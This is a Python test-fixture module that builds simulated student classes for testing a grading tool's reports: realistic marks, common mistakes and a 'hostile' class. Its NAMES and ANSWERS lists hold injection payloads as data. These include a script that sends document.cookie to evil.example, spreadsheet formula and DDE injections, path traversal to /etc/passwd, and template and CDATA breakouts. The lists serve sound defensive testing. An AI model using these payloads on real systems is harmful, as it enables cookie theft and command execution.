"""Classes made up for the tests of reports: real questions, students with abilities, and hostile ones.

Not collected by pytest: it holds no test.
"""

import math
import random
from dataclasses import replace
from pathlib import Path
from typing import Any

from axis.exercises.source import Exercise, Question
from axis.grading.records import UNMARKED_STATES, Mark, MarkedSubmission, Result, State, Submission

EXERCISES = Path(__file__).parent.parent / "exercises"
ENERGY = Exercise.from_file(EXERCISES / "3-2-energy.ipynb")

#: What students of 3.2 typically get wrong, with the hint that the exercise gives.
MISTAKES = {
    "qatar_price-check": [
        ("248", "That is the price of Russian LNG: select the row by its entity."),
        ("0.275", "Your answer is a thousand times too small: check the unit."),
    ],
    "premium-check": [("-7.2", "The size is right but the sign is not: check which value you subtract from which.")],
    "premium_ratio-check": [
        ("5.034965", "That is the gap in percent. A ratio is the one price divided by the other."),
        ("0.952064", "The ratio is upside down: check which value is the base."),
    ],
    "bill-check": [
        ("586.3", "That is the bill at Europe's price: the question asks for China's."),
        ("615820000.0", "Your answer is a million times too large: check the unit."),
    ],
    "turkmen_extra-check": [
        ("766.7", "That is the whole bill at the Turkmen price. Only the extra cost is asked for."),
        ("82.0", "That uses the price of Uzbekistan."),
    ],
    "claim-check": [
        ("It shows that China always pays more", "The figures are for one year. Which years would this sentence need?"),
        (
            "It shows that the contract favours Russia",
            "A price is not a contract: it has a term, a volume and a formula.",
        ),
    ],
}
GENERAL = [("12.5", "`x` is not the number asked for. Read the question again."), ("1250", "Check the unit.")]
ESSAY = (
    "Both can be right, because they are about different years. The report compares the contract of 2014 with "
    "Europe's price of that year; the averages of 150.2 and 143 US dollars per 1,000 m³ are for 2020. "
)

#: Names that real platforms let through, and what they try.
NAMES = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","marks")',
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "con",
    "NUL.html",
    "Ada",
    "ADA",
    "Jürgen Müller",
    "Ju\u0308rgen Mu\u0308ller",
    "🦊 Fuchs",
    "🐻 Fuchs",
    "x" * 300,
    "ж" * 120,
    "\u202etxt.exe",
    "nul\x00byte",
    "half \ud800 pair",
    "Points Possible",
    "..",
    "",
    " ",
    "0042",
    "-1+cmd|' /C calc'!A0",
    'O\'Neill, "Sam"\nJr.',
    "&amp; <b>",
]

#: Answers that try what names try.
ANSWERS = [
    "</pre><script>fetch('https://evil.example/'+document.cookie)</script>",
    '=HYPERLINK("http://evil.example")\n-2+3;=1+1\r+1',
    "\x00\x07\x1b[31mred\x1b[0m \ud83d \ufffe",
    "\u202edesrever\u202c",
    "{{ 7 * 7 }}{% raw %}",
    "w" * 50_000,
    "🧪" * 500,
    "]]><!-- --><![CDATA[",
]


def students(count: int) -> list[str]:
    """Return ordinary names."""
    return [f"student{number:03}" for number in range(1, count + 1)]


def submit(
    student: str, exercise: Exercise, marks: tuple[Mark, ...], number: str = "", **result: Any
) -> MarkedSubmission:
    """Hand in an exercise and get these marks."""
    path = f"{student}/{exercise.name}/{exercise.name}.ipynb"
    return MarkedSubmission(
        Submission(student, exercise.name, path, number=number), Result(exercise.name, marks, **result)
    )


def mark(question: Question, state: State, reason: str = "", answer: str = "") -> Mark:
    """Mark one question."""
    points = None if state is State.WAITING or state in UNMARKED_STATES else 0.0
    points = question.out_of if state is State.RIGHT else points
    return Mark(question.check, question.title, state, points, question.out_of, reason, answer)


def ordinary(names: list[str], exercise: Exercise = ENERGY, seed: int = 1) -> list[MarkedSubmission]:
    """Make a class in which those who know more get more right, except in the sixth check."""
    dice = random.Random(seed)
    return [_one(name, exercise, dice, dice.gauss(0, 1), str(1000 + place)) for place, name in enumerate(names)]


def nearly_perfect(names: list[str], exercise: Exercise = ENERGY, seed: int = 5) -> list[MarkedSubmission]:
    """Make a class that gets nearly everything right, so that all checks have nearly the same figures."""
    dice = random.Random(seed)
    return [
        submit(
            name,
            exercise,
            tuple(mark(q, State.RIGHT if dice.random() < 0.95 else State.WRONG) for q in exercise.questions),
        )
        for name in names
    ]


def _one(name: str, exercise: Exercise, dice: random.Random, ability: float, number: str) -> MarkedSubmission:
    fate = dice.random()
    if fate < 0.03:
        reason = "The file is not JSON: it may have been cut while it was uploaded."
        marked = submit(name, exercise, tuple(mark(q, State.REFUSED, reason) for q in exercise.questions), number)
        return replace(marked, submission=replace(marked.submission, problem=reason))
    end = dice.randrange(1, len(exercise.questions)) if fate < 0.08 else len(exercise.questions)
    reason = "The notebook ran longer than 60 seconds, so the checks after this one were not reached."
    marks = [_mark(q, place, dice, ability) for place, q in enumerate(exercise.questions[:end])]
    marks += [mark(q, State.STOPPED, reason) for q in exercise.questions[end:]]
    notes = ("The notebook had an extra cell, which ran too.",) if 0.08 < fate < 0.12 else ()
    return submit(name, exercise, tuple(marks), number, notes=notes, seconds=round(dice.uniform(0.02, 0.2), 3))


def _mark(question: Question, place: int, dice: random.Random, ability: float) -> Mark:
    if question.by_hand:
        return mark(question, State.WAITING, answer=ESSAY + f"I think so {dice.randrange(10**6)} times.")
    slope = -1.2 if place == 5 else 1.6
    hardness = (-2.6, -1.2, 0.2, 0.6, 1.4, 0.0, 2.2, -0.4, -1.0, -2.0)[place % 10]
    if dice.random() < 1 / (1 + math.exp(-slope * (ability - hardness))):
        return mark(question, State.RIGHT, answer="The right one")
    if dice.random() < 0.15:
        return mark(question, State.UNANSWERED, "It is still `...`: write your answer in the cell above and run it.")
    pool = MISTAKES.get(question.check, GENERAL)
    answer, hint = dice.choice(pool)
    if dice.random() < 0.2:
        answer, hint = f"{dice.uniform(1, 999):.1f}", "That is not the number asked for. Read the question again."
    return mark(question, State.WRONG, hint, answer)


def hostile() -> list[MarkedSubmission]:
    """Make a class of students who try the reports."""
    found = []
    for place, name in enumerate(NAMES):
        answer = ANSWERS[place % len(ANSWERS)]
        marks = tuple(
            mark(q, State.WAITING if q.by_hand else State.WRONG, "" if q.by_hand else f"Not `{answer[:60]}`.", answer)
            for q in ENERGY.questions
        )
        found.append(submit(name, ENERGY, marks, "12<b>" if place % 2 else f"{place}"))
    stray = Submission("stray", "", "../stray.txt", problem="The file is not a notebook of this course.")
    return [*found, MarkedSubmission(stray, Result("", ()))]
